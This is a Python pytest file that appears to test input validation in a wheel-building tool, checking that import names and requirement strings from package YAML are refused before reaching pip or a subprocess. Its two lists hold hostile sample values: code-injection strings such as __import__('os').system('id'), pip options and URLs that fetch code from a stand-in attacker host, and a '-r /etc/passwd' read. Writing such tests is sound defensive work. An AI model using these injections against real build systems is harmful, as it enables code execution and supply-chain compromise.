"""Hostile data, round two (issue 23): values from package YAML, build records, API asset
objects and the site's own files are data. Each is checked against its shape before it reaches
code, a path, a page or a command; a bad one is one line naming it and the fix."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement

from tests.unit.conftest import package_yaml
from wheelfarm.builder import build, envs
from wheelfarm.core.errors import ConfigError
from wheelfarm.core.root import FarmRoot
from wheelfarm.matrix.load import load_matrix, module_problem, requirement_problem

# --- package YAML: import names and requirements (row 1) --------------------------------------

HOSTILE_IMPORTS = [
    'os; open("PWNED","w").write("ran")',
    "flash_attn\n",
    "__import__('os').system('id')",
    "pkg..mod",
    "-c",
    "",
]
HOSTILE_REQUIREMENTS = [
    "--index-url=https://evil.example/simple",
    "-egit+https://evil.example/x@main#egg=x",
    " -r /etc/passwd",
    "x @ git+https://evil.example/x@main",
    "x @ https://evil.example/x.whl",
    "numpy >>= 1",
]


@pytest.mark.parametrize("module", HOSTILE_IMPORTS)
def test_an_import_entry_that_is_code_is_refused_at_load(
    matrix_dir: Callable[..., FarmRoot], module: str
) -> None:
    text = package_yaml("pkg", extra=f"import: [{json.dumps(module)}]\n")
    with pytest.raises(ConfigError) as caught:
        load_matrix(matrix_dir({"pkg": text}))
    (line,) = caught.value.problems
    assert "pkg.yaml:" in line
    assert "import[0]" in line
    assert "dotted module name" in line


@pytest.mark.parametrize("key", ["build_requires", "import_requires"])
@pytest.mark.parametrize("requirement", HOSTILE_REQUIREMENTS)
def test_a_requirement_that_is_an_option_a_url_or_an_editable_is_refused_at_load(
    matrix_dir: Callable[..., FarmRoot], key: str, requirement: str
) -> None:
    text = package_yaml("pkg", extra=f"{key}: [numpy, {json.dumps(requirement)}]\n")
    with pytest.raises(ConfigError) as caught:
        load_matrix(matrix_dir({"pkg": text}))
    (line,) = caught.value.problems
    assert f"pkg.yaml:{len(text.splitlines())}: {key}[1]: " in line
    assert "\n" not in line


def test_plain_requirements_and_dotted_modules_load(matrix_dir: Callable[..., FarmRoot]) -> None:
    extra = (
        "import: [pkg, pkg._C, Pkg_2.sub]\n"
        "build_requires: ['ninja>=1.11', 'numpy[dev] ; python_version >= \"3.10\"']\n"
    )
    (package,) = load_matrix(matrix_dir({"pkg": package_yaml("pkg", extra=extra)})).packages
    assert package.imports == ("pkg", "pkg._C", "Pkg_2.sub")
    assert package.build_requires[0] == "ninja>=1.11"


@given(st.text(max_size=40))
@settings(max_examples=300)
def test_any_text_is_a_module_name_only_in_the_dotted_shape(text: str) -> None:
    parts = text.split(".")
    plain = all(p and p.isascii() and p.isidentifier() for p in parts)
    assert (module_problem(text) is None) == plain


@given(st.text(max_size=60))
@settings(max_examples=300)
def test_any_accepted_requirement_is_no_option_and_no_url(text: str) -> None:
    if requirement_problem(text) is None:  # and any other text: a reason, never a traceback
        assert not text.lstrip().startswith("-")
        assert Requirement(text).url is None


def test_the_import_check_passes_names_as_arguments_to_a_fixed_program(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    calls: list[list[object]] = []
    monkeypatch.setattr(envs, "overlay", lambda base, dest, **k: dest / "bin" / "python")
    monkeypatch.setattr(envs, "pip_install", lambda py, *args, **k: calls.append(list(args)))
    monkeypatch.setattr(build, "call", lambda cmd, **k: calls.append(cmd))
    monkeypatch.setattr(build.driver, "import_env", lambda *a: {})
    wheel = tmp_path / "pkg-1.0-cp312-cp312-linux_x86_64.whl"
    with pytest.raises(ConfigError, match=r"'os; open\(\"PWNED\".*not a dotted module name"):
        build.check_import(
            wheel, ("pkg", 'os; open("PWNED","w")'), None, tmp_path / "v",
            python="python3", log=tmp_path / "log",
        )  # fmt: skip
    assert calls == []  # refused before any venv, pip or python ran


@pytest.mark.parametrize("requirement", HOSTILE_REQUIREMENTS[:3])
def test_pip_never_gets_an_option_from_a_package_file(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, requirement: str
) -> None:
    calls: list[tuple[object, ...]] = []
    monkeypatch.setattr(envs, "call", lambda cmd, **k: calls.append(tuple(cmd)))
    with pytest.raises(ConfigError, match="is an option or an editable"):
        envs.install_requirements(tmp_path / "py", ("numpy", requirement), log=tmp_path / "log")
    envs.install_requirements(tmp_path / "py", ("numpy", "scipy>=1"), log=tmp_path / "log")
    (argv,) = calls
    assert argv[-3:] == ("--", "numpy", "scipy>=1")
